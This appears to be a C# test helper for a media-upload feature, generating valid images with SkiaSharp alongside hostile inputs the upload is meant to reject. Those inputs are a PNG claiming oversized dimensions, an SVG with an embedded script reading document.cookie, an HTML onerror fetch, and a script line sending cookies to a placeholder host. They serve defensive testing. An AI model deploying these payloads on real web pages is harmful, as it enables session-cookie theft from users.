using System.Buffers.Binary;
using System.Text;
using SkiaSharp;

namespace Editorial.Tests.Media;

/// <summary>Real images made with SkiaSharp, and the hand-made bad files the upload must refuse.</summary>
internal static class TestImages
{
    /// <summary>A photo-like JPEG: a gradient with some noise, so it does not compress to nothing.</summary>
    public static byte[] Jpeg(int width, int height, int quality = 90, int seed = 1)
    {
        using var bitmap = Picture(width, height, opaque: true, seed);
        using var data = bitmap.Encode(SKEncodedImageFormat.Jpeg, quality);
        return data.ToArray();
    }

    public static byte[] Png(int width, int height, bool transparent)
    {
        using var bitmap = Picture(width, height, opaque: !transparent, seed: 2);
        using var data = bitmap.Encode(SKEncodedImageFormat.Png, 100);
        return data.ToArray();
    }

    public static byte[] WebP(int width, int height)
    {
        using var bitmap = Picture(width, height, opaque: true, seed: 3);
        using var data = bitmap.Encode(SKEncodedImageFormat.Webp, 80);
        return data.ToArray();
    }

    /// <summary>The smallest GIF: one opaque red pixel.</summary>
    public static byte[] Gif1x1() =>
    [
        .. "GIF89a"u8, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, // 1x1, global colour table of 2
        0xFF, 0x00, 0x00, 0x00, 0x00, 0x00,                       // red, black
        0x2C, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, // image descriptor
        0x02, 0x02, 0x44, 0x01, 0x00,                             // LZW data
        0x3B,
    ];

    /// <summary>A JPEG whose EXIF says "rotate 90° clockwise to show" (orientation 6), as phones write them.</summary>
    public static byte[] JpegWithOrientation(int width, int height, ushort orientation)
    {
        var jpeg = Jpeg(width, height);
        byte[] tiff =
        [
            .. "MM"u8, 0x00, 0x2A, 0x00, 0x00, 0x00, 0x08, // big-endian TIFF, first IFD at 8
            0x00, 0x01,                                    // one entry
            0x01, 0x12, 0x00, 0x03, 0x00, 0x00, 0x00, 0x01, // Orientation, SHORT, count 1
            (byte)(orientation >> 8), (byte)orientation, 0x00, 0x00,
            0x00, 0x00, 0x00, 0x00,                        // no next IFD
        ];
        var payload = "Exif\0\0"u8.ToArray().Concat(tiff).ToArray();
        var length = (ushort)(payload.Length + 2);
        byte[] app1 = [0xFF, 0xE1, (byte)(length >> 8), (byte)length, .. payload];
        return [.. jpeg[..2], .. app1, .. jpeg[2..]];
    }

    /// <summary>A valid PNG header claiming <paramref name="width"/>×<paramref name="height"/>, with a tiny body.</summary>
    public static byte[] PngClaiming(int width, int height)
    {
        using var stream = new MemoryStream();
        stream.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        var ihdr = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(ihdr, width);
        BinaryPrimitives.WriteInt32BigEndian(ihdr.AsSpan(4), height);
        ihdr[8] = 8; // bit depth
        ihdr[9] = 2; // truecolour
        Chunk(stream, "IHDR", ihdr);
        // A few bytes of zlib data: far too little for the claimed picture.
        Chunk(stream, "IDAT", [0x78, 0x9C, 0x63, 0x60, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01]);
        Chunk(stream, "IEND", []);
        return stream.ToArray();
    }

    /// <summary>A Windows bitmap: an image, but not one of the accepted formats.</summary>
    public static byte[] Bmp(int width, int height)
    {
        var rowSize = (width * 3 + 3) & ~3;
        var pixels = rowSize * height;
        var bytes = new byte[54 + pixels];
        "BM"u8.CopyTo(bytes);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(2), bytes.Length);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(10), 54);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(14), 40);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(18), width);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(22), height);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(26), 1);
        BinaryPrimitives.WriteInt16LittleEndian(bytes.AsSpan(28), 24);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(34), pixels);
        return bytes;
    }

    public static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    public const string Svg = """
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>
        """;

    public const string Html = """
        <!DOCTYPE html><html><body><img src=x onerror="fetch('/api/media')"></body></html>
        """;

    public const string Script = "alert(document.cookie);\nfetch('https://example.invalid/?c=' + document.cookie);\n";

    /// <summary>Decoded size of an encoded image.</summary>
    public static (int Width, int Height) SizeOf(byte[] encoded)
    {
        using var codec = SKCodec.Create(new MemoryStream(encoded));
        Assert.NotNull(codec);
        return (codec.Info.Width, codec.Info.Height);
    }

    public static SKEncodedImageFormat FormatOf(byte[] encoded)
    {
        using var codec = SKCodec.Create(new MemoryStream(encoded));
        Assert.NotNull(codec);
        return codec.EncodedFormat;
    }

    private static SKBitmap Picture(int width, int height, bool opaque, int seed)
    {
        var bitmap = new SKBitmap(new SKImageInfo(width, height, SKColorType.Rgba8888, opaque ? SKAlphaType.Opaque : SKAlphaType.Unpremul));
        var random = new Random(seed);
        var pixels = bitmap.GetPixelSpan();
        for (var y = 0; y < height; y++)
        {
            for (var x = 0; x < width; x++)
            {
                var i = (y * width + x) * 4;
                var noise = random.Next(24);
                pixels[i] = (byte)(x * 255 / Math.Max(1, width - 1) ^ noise);
                pixels[i + 1] = (byte)(y * 255 / Math.Max(1, height - 1) ^ noise);
                pixels[i + 2] = (byte)((x + y) & 0xFF);
                // Transparent pictures: the left half fades out.
                pixels[i + 3] = opaque || x >= width / 2 ? (byte)255 : (byte)(x * 255 / Math.Max(1, width / 2));
            }
        }

        return bitmap;
    }

    private static void Chunk(Stream stream, string type, byte[] data)
    {
        Span<byte> length = stackalloc byte[4];
        BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
        stream.Write(length);
        var typeAndData = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        stream.Write(typeAndData);
        Span<byte> crc = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(crc, Crc32(typeAndData));
        stream.Write(crc);
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }
}
